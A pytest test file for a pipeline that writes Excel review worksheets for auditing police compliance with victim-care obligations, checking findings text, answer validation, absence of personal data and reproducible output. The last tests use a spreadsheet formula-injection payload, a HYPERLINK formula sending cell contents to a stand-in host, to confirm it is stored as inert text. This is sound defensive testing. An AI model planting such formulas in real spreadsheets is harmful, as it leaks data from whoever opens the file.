"""Reviewer worksheets: one per department, findings pre-filled, answers validated, no PII, same bytes."""

from __future__ import annotations

import pandas as pd
import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from vcpipeline.sampling.questions import (
    FINDING_CODES,
    QUESTION_IDS,
    crime_findings,
    finding_text,
    obligations_text,
)
from vcpipeline.sampling.store import draw_and_store_sample
from vcpipeline.sampling.worksheets import (
    FINDINGS_SHEET,
    META_SHEET,
    OUTCOMES_HEADER,
    REVIEW_SHEET,
    REVIEWER_HEADER,
    answer_columns,
    finding_header,
    findings_header,
    header_checksum,
    worksheet_header,
    write_worksheets,
)
from vcpipeline.warehouse.load import PII_FIELDS
from vcpipeline.warehouse.schema import sample_findings

PII_WORDS = ("name", "birth", "dob", "phone", "address", "email", "postcode", "age")


@pytest.fixture
def worksheets(sqlite_force_engine, tmp_path):
    draw_and_store_sample(sqlite_force_engine, "2026Q1", size=30, minimum=5)
    return write_worksheets(sqlite_force_engine, "2026Q1", tmp_path / "sample")


def _obligations(rows: list[tuple[str, str, str]]) -> pd.DataFrame:
    trigger = pd.Timestamp("2026-01-05T10:00:00Z")
    return pd.DataFrame({
        "crime_ref": [r[0] for r in rows], "victim_id": ["V1"] * len(rows), "rule": [r[1] for r in rows],
        "trigger_at": trigger, "due_at": pd.Timestamp("2026-01-13T00:00:00Z"),
        "met_at": [trigger + pd.Timedelta(days=1) if r[2] == "MET" else pd.NaT for r in rows],
        "status": [r[2] for r in rows],
    })


def test_findings_take_each_rules_worst_status_and_derive_compliance_and_vps_use():
    obligations = _obligations([
        ("C1", "acknowledgement", "MET"), ("C1", "investigation_update", "MET"),
        ("C1", "investigation_update", "BREACHED"), ("C1", "vps_offer", "MET"),
        ("C2", "acknowledgement", "PENDING"), ("C2", "vps_offer", "MET"), ("C2", "vps_feedback", "MET_LATE"),
    ])
    findings = crime_findings(pd.Series(["C1", "C2", "C3"]), obligations).set_index(["crime_ref", "question"])
    finding, answer = findings["finding"], findings["automated_answer"]
    assert finding["C1", "Q5"] == "BREACHED" and answer["C1", "Q5"] == "No"
    assert finding["C1", "Q1"] == "NOT_COMPLIANT" and finding["C2", "Q1"] == "NOT_COMPLIANT"
    assert finding["C1", "Q3"] == "MET" and answer["C1", "Q3"] == "Yes"
    assert finding["C1", "Q6"] == "n/a" and answer["C1", "Q6"] == "N/A"
    assert finding["C2", "Q3"] == "PENDING" and answer["C2", "Q3"] == "No data"
    assert finding["C1", "Q8"] == "No data" and finding["C2", "Q8"] == "USED"  # charged, no use recorded
    assert finding["C2", "Q9"] == "MET_LATE"
    never_evaluated = finding.xs("C3", level="crime_ref")
    assert set(never_evaluated.drop("Q2")) == {"No data"} and never_evaluated["Q2"] == "REVIEWER"
    assert set(finding.xs("C1", level="crime_ref").index) == set(QUESTION_IDS)
    assert finding["C1", "Q2"] == "REVIEWER" and answer["C1", "Q2"] == "No data"


def test_obligations_read_in_plain_english_one_line_each_naming_the_trigger():
    obligations = _obligations([("C1", "acknowledgement", "MET"), ("C1", "investigation_update", "BREACHED"),
                                ("C1", "investigation_update", "MET_LATE")])
    obligations["trigger_event_id"] = ["", "E1", "E2"]
    obligations["trigger_event_type"] = [None, "SUSPECT_ARRESTED", "SUSPECT_INTERVIEWED"]
    obligations.loc[2, "met_at"] = pd.Timestamp("2026-01-14T10:00:00Z")
    text = obligations_text(obligations)
    assert text["C1"].splitlines() == [
        "Acknowledge the crime report in writing (V1), after the crime report on 5 Jan 2026: due by "
        "12 Jan 2026; met on time on 6 Jan 2026",
        "Update the victim (V1), after an arrest on 5 Jan 2026: due by 12 Jan 2026; not met by the deadline",
        "Update the victim (V1), after an interview on 5 Jan 2026: due by 12 Jan 2026; met late on 14 Jan 2026",
    ]
    # What was owed, for the review sheet: the same lines without the outcome.
    owed = obligations_text(obligations, outcome=False)["C1"].splitlines()
    assert owed[1] == "Update the victim (V1), after an arrest on 5 Jan 2026: due by 12 Jan 2026"
    machine = ("MET", "BREACHED", "MET_LATE", "investigation_update", "acknowledgement", "→")
    assert not any(word in line.split() or word in line for line in text["C1"].splitlines() for word in machine)


def test_findings_read_in_plain_english_and_map_back_to_their_codes():
    codes = pd.Series(["MET", "MET_LATE", "BREACHED", "PENDING", "n/a", "NOT_COMPLIANT", "COMPLIANT",
                       "REVIEWER", "USED", "No data", "not owed: the victim's choice"])
    text = finding_text(codes)
    assert text.tolist()[:3] == ["Yes: met on time", "No: met, but late", "No: not met by the deadline"]
    assert text[5] == "No: at least one obligation not met, or met late"
    assert text[7] == "No automated finding: your judgement"
    assert not any(token in " ".join(text) for token in ("NOT_COMPLIANT", "REVIEWER", "MET_LATE", "BREACHED"))
    assert text.map(FINDING_CODES).tolist() == codes.tolist()


def test_one_worksheet_per_department_with_a_row_per_sampled_crime(worksheets):
    assert [path.name for path in worksheets] == ["2026Q1-IIT.xlsx", "2026Q1-PPU.xlsx", "2026Q1-VVA.xlsx"]
    sheet = load_workbook(worksheets[0])[REVIEW_SHEET]
    refs = [sheet.cell(row=row, column=1).value for row in range(2, sheet.max_row + 1)]
    assert refs == sorted(refs) and all(ref.startswith("IIT-2026Q1-") for ref in refs)
    assert {sheet.cell(row=row, column=2).value for row in range(2, sheet.max_row + 1)} == {"IIT"}


def test_answer_columns_are_restricted_to_the_four_answers_and_start_empty(worksheets):
    sheet = load_workbook(worksheets[1])[REVIEW_SHEET]
    validations = [v for v in sheet.data_validations.dataValidation if v.formula1 == '"Yes,No,N/A,No data"']
    assert len(validations) == 1 and validations[0].type == "list"
    assert validations[0].showErrorMessage
    covered = {str(ref) for ref in validations[0].sqref.ranges}
    last = sheet.max_row
    for question, column in answer_columns().items():
        letter = sheet.cell(row=1, column=column).column_letter
        assert f"{letter}2:{letter}{last}" in covered, question
        assert all(sheet.cell(row=row, column=column).value is None for row in range(2, last + 1))
        assert not sheet.cell(row=2, column=column).protection.locked
    assert sheet.protection.sheet and sheet.cell(row=2, column=1).protection.locked


def test_findings_are_prefilled_on_their_own_sheet_and_recorded_as_the_agreement_baseline(
        sqlite_force_engine, worksheets):
    sheet = load_workbook(worksheets[2])[FINDINGS_SHEET]
    column = findings_header().index(finding_header("Q3")) + 1
    shown = {sheet.cell(row=row, column=1).value: sheet.cell(row=row, column=column).value
             for row in range(2, sheet.max_row + 1)}
    assert set(shown.values()) <= set(finding_text(pd.Series(["MET", "MET_LATE", "BREACHED", "PENDING", "n/a"])))
    with sqlite_force_engine.connect() as conn:
        stored = dict(conn.execute(sa.select(sample_findings.c.crime_ref, sample_findings.c.finding)
                                   .where(sample_findings.c.question == "Q3")).all())
    assert {ref: FINDING_CODES[text] for ref, text in shown.items()} == {ref: stored[ref] for ref in shown}
    outcomes = sheet.cell(row=2, column=findings_header().index(OUTCOMES_HEADER) + 1).value
    assert "Acknowledge the crime report in writing (V1), after the crime report on " in outcomes


def test_worksheets_carry_no_personal_data_columns(worksheets):
    header = worksheet_header()
    victim_columns = [name for name in header if name not in REVIEWER_HEADER]  # the reviewer's: staff data
    words = [word.lower() for name in victim_columns
             for word in name.replace(":", " ").replace("/", " ").replace("(", " ").replace(")", " ").split()]
    assert set(words) & PII_FIELDS == set()
    assert [word for word in words if word in PII_WORDS] == []
    sheet = load_workbook(worksheets[0])[REVIEW_SHEET]
    assert tuple(cell.value for cell in sheet[1]) == header


def test_hidden_sheet_holds_sample_id_and_a_header_checksum(worksheets, sqlite_force_engine):
    workbook = load_workbook(worksheets[0])
    meta = workbook[META_SHEET]
    assert meta.sheet_state == "veryHidden"
    values = {key: value for key, value in meta.iter_rows(values_only=True)}
    assert values["sample_id"] == "2026Q1" and values["department"] == "IIT"
    window = (values["deadline"], values["review_from"], values["review_to"])
    assert values["header_sha256"] == header_checksum("2026Q1", "IIT", values["population_hash"],
                                                      worksheet_header(), window)


def test_writing_the_same_sample_twice_gives_identical_bytes(sqlite_force_engine, worksheets, tmp_path):
    again = write_worksheets(sqlite_force_engine, "2026Q1", tmp_path / "again")
    assert [path.read_bytes() for path in again] == [path.read_bytes() for path in worksheets]
    properties = load_workbook(worksheets[0]).properties
    assert properties.created == properties.modified == pd.Timestamp("2026-04-01T00:00:00").to_pydatetime() \
        - pd.Timedelta(hours=1)  # the first instant after the quarter: 1 April 00:00 BST


HOSTILE_REF = '=HYPERLINK("http://evil.example/?"&A1,"Open the case file")'


def _insert_hostile_crime(engine) -> None:
    """A crime whose reference is a spreadsheet formula, put straight into the warehouse (as if
    it had slipped past validation at ingest), with a victim so it is in the sample's population."""
    from vcpipeline.warehouse.schema import crimes, victims

    lineage = {"source_system": "crs", "source_row_id": "hostile", "load_batch_id": "test",
               "extracted_at": pd.Timestamp("2026-04-02T01:00:00Z").to_pydatetime()}
    with engine.begin() as conn:
        conn.execute(crimes.insert(), [{
            "crime_ref": HOSTILE_REF, "reported_at": pd.Timestamp("2026-02-03T10:00:00Z").to_pydatetime(),
            "department": "IIT", "domestic_abuse": False, "hate_crime": False, **lineage}])
        conn.execute(victims.insert(), [{
            "crime_ref": HOSTILE_REF, "victim_id": "V1", "age_at_report": 40, "vulnerable": False,
            "intimidated": False, "persistently_targeted": False, **lineage}])


def test_a_crime_reference_that_looks_like_a_formula_is_written_as_literal_text(sqlite_force_engine, tmp_path):
    _insert_hostile_crime(sqlite_force_engine)
    draw_and_store_sample(sqlite_force_engine, "2026Q1", size=500, minimum=5)  # every crime
    paths = write_worksheets(sqlite_force_engine, "2026Q1", tmp_path / "sample")
    iit = next(path for path in paths if path.name.endswith("-IIT.xlsx"))

    sheet = load_workbook(iit)[REVIEW_SHEET]
    cell = next(row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == HOSTILE_REF)
    assert cell.data_type == "s"  # a text cell showing the literal characters, not a formula
    assert cell.quotePrefix  # and it stays text if a reviewer edits it
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    # The other references are ordinary text cells without the mark.
    ordinary = next(row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == "IIT-2026Q1-001")
    assert ordinary.data_type == "s" and not ordinary.quotePrefix


def test_the_review_error_report_marks_formula_like_text_as_text(tmp_path):
    from vcpipeline.sampling.reviews import ERROR_COLUMNS, IngestReport

    errors = pd.DataFrame([["2026Q1-IIT.xlsx", 7, HOSTILE_REF, "unknown crime_ref", "not in the warehouse"]],
                          columns=list(ERROR_COLUMNS))
    path = tmp_path / "2026Q1-review-errors.csv"
    IngestReport("2026Q1", 1, 0, 0, 0, errors).write_errors(path)
    written = pd.read_csv(path)
    assert written["crime_ref"].tolist() == ["'" + HOSTILE_REF]  # shown as text, not run
    assert written["row"].tolist() == [7]  # numbers stay numbers


def test_a_formula_like_crime_reference_comes_back_from_a_returned_worksheet_unchanged(sqlite_force_engine, tmp_path):
    from vcpipeline.sampling.reviews import ingest_returns
    from vcpipeline.sampling.simulate import simulate_returns
    from vcpipeline.warehouse.frames import read_frame
    from vcpipeline.warehouse.schema import sample_reviews

    _insert_hostile_crime(sqlite_force_engine)
    draw_and_store_sample(sqlite_force_engine, "2026Q1", size=500, minimum=5)
    sheets = write_worksheets(sqlite_force_engine, "2026Q1", tmp_path / "sample")
    returned = simulate_returns(sheets, tmp_path / "returns", seed="test")
    report = ingest_returns(sqlite_force_engine, "2026Q1", returned)
    assert HOSTILE_REF not in set(report.errors["crime_ref"])
    with sqlite_force_engine.connect() as conn:
        reviewed = read_frame(conn, sa.select(sample_reviews.c.crime_ref))["crime_ref"]
    assert HOSTILE_REF in set(reviewed)
